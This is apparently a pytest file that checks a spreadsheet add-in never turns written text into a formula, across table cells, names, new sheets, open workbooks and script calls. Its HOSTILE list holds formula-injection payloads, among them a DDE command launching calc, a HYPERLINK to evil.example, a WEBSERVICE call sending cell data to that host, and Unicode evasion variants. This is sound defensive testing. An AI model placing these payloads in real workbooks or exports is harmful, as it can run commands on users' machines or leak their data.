"""A text never becomes a formula, whichever way it gets into a workbook."""

import io
import json
import sys
import zipfile
from pathlib import Path
from typing import Final

import openpyxl
import pytest
import xlsxwriter
from lxml import etree

from addin.books.file import FileBook
from addin.books.live import LiveBook
from addin.calls import call_json
from tests.addin.books.builders import book, decoded, loaded
from tests.hosts.excel.fake_book import open_book, xlwings_book
from workbook_templates.plan import NewSheet, NewTable, Plan, TableWrite

HOSTILE: Final = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example","Click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "{=1+1}",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    "﹦1+1",
    "\u200b=1+1",
    "\u202e=1+1",
)


def formulas(path: Path) -> dict[str, list[str]]:
    """Every formula of a workbook by part: of cells, tables, validations, charts and names."""
    found: dict[str, list[str]] = {}
    with zipfile.ZipFile(path) as file:
        for name in file.namelist():
            if name.endswith(".xml"):
                root = etree.fromstring(file.read(name))
                tags = ("{*}f", "{*}formula", "{*}calculatedColumnFormula", "{*}totalsRowFormula", "{*}definedName")
                texts = [element.text or "" for element in root.iter(*tags)]
                if texts:
                    found[name] = texts
    return found


def test_there_are_seventeen() -> None:
    assert len(set(HOSTILE)) == 17


def test_in_the_cells_of_a_table_a_name_and_a_cell_of_a_file(tmp_path: Path) -> None:
    path = book(tmp_path / "book.xlsx")
    before = formulas(path)
    columns = {"Customer": list(HOSTILE), "Revenue": list(HOSTILE)}
    cells = {("Inputs", f"F{row}"): text for row, text in enumerate(HOSTILE, 1)}
    tables = (TableWrite(table="tblPnl", columns=columns),)
    FileBook(path).apply(Plan(tables=tables, names={"rate": HOSTILE[0]}, cells=cells))
    kept = {name: texts for name, texts in formulas(path).items() if "worksheets" in name}
    assert kept == {name: texts for name, texts in before.items() if "worksheets" in name}
    sheets = loaded(path)
    for sheet, column, first in (("P&L", "B", 5), ("P&L", "C", 5), ("Inputs", "F", 1)):
        found = [sheets[sheet][f"{column}{row}"] for row in range(first, first + len(HOSTILE))]
        assert [cell.data_type for cell in found] == ["s"] * len(HOSTILE)
        assert [decoded(cell.value) for cell in found] == list(HOSTILE)
    assert FileBook(path).read_table("tblPnl").columns["Customer"] == list(HOSTILE)


@pytest.mark.parametrize("text", HOSTILE)
def test_in_headers_titles_and_cells_of_a_new_sheet(tmp_path: Path, text: str) -> None:
    path = book(tmp_path / "book.xlsx")
    before = formulas(path)
    header = text.strip() or text
    table = NewTable(name="tblNew", row=3, column=1, columns={header: [text, text]})
    FileBook(path).apply(Plan(sheets=(NewSheet(name="New", cells={"A1": text}, tables=(table,)),)))
    after = formulas(path)
    titles = [name for name in after["xl/workbook.xml"] if name not in before["xl/workbook.xml"]]
    assert titles == ["New!$3:$3"]  # the header comes again on every printed page
    assert {name: [one for one in texts if one not in titles] for name, texts in after.items()} == before
    assert all(cell.data_type in "sn" for row in loaded(path)["New"].iter_rows() for cell in row)


@pytest.mark.skipif(sys.platform == "win32", reason="the open workbook is a fake one, over fake pywin32")
def test_in_an_open_workbook(tmp_path: Path) -> None:
    """The fake types like Excel: what begins like a formula becomes one unless its cell is formatted as text."""
    fake = open_book(book(tmp_path / "book.xlsx"))
    tables = (TableWrite(table="tblPnl", columns={"Customer": list(HOSTILE)}),)
    LiveBook(xlwings_book(fake)).apply(Plan(tables=tables, names={"rate": HOSTILE[0]}))
    cells = fake.sheet("P&L").cells
    contents = [cells[row, 2] for row in range(5, 5 + len(HOSTILE))] + [fake.sheet("Inputs").cells[3, 2]]
    assert [content.formula for content in contents if content.formula] == []
    assert [content.value for content in contents] == [*HOSTILE, HOSTILE[0]]


@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_call_from_a_script(text: str) -> None:
    """What a function says of a hostile argument is a value or an error, never a formula."""
    reply = json.loads(call_json("CV_LTV", json.dumps([text, 0.8, 0.1])))
    assert "formula" not in json.dumps(reply).lower()
    assert not any(isinstance(value, str) and value.startswith(("=", "+", "@")) for value in _flat(reply))


def _flat(value: object) -> list[object]:
    if isinstance(value, dict):
        return [one for item in value.values() for one in _flat(item)]
    if isinstance(value, list):
        return [one for item in value for one in _flat(item)]
    return [value]


def test_the_check_sees_a_formula(tmp_path: Path) -> None:
    """A guard that cannot fail is noise: written the careless way, the names do become formulas."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as careless:
        sheet = careless.add_worksheet()
        for row, text in enumerate(HOSTILE):
            sheet.write(row, 0, text)
    (tmp_path / "careless.xlsx").write_bytes(stream.getvalue())
    assert len(formulas(tmp_path / "careless.xlsx")["xl/worksheets/sheet1.xml"]) == 5
    assert openpyxl.load_workbook(tmp_path / "careless.xlsx").worksheets[0]["A1"].data_type == "f"
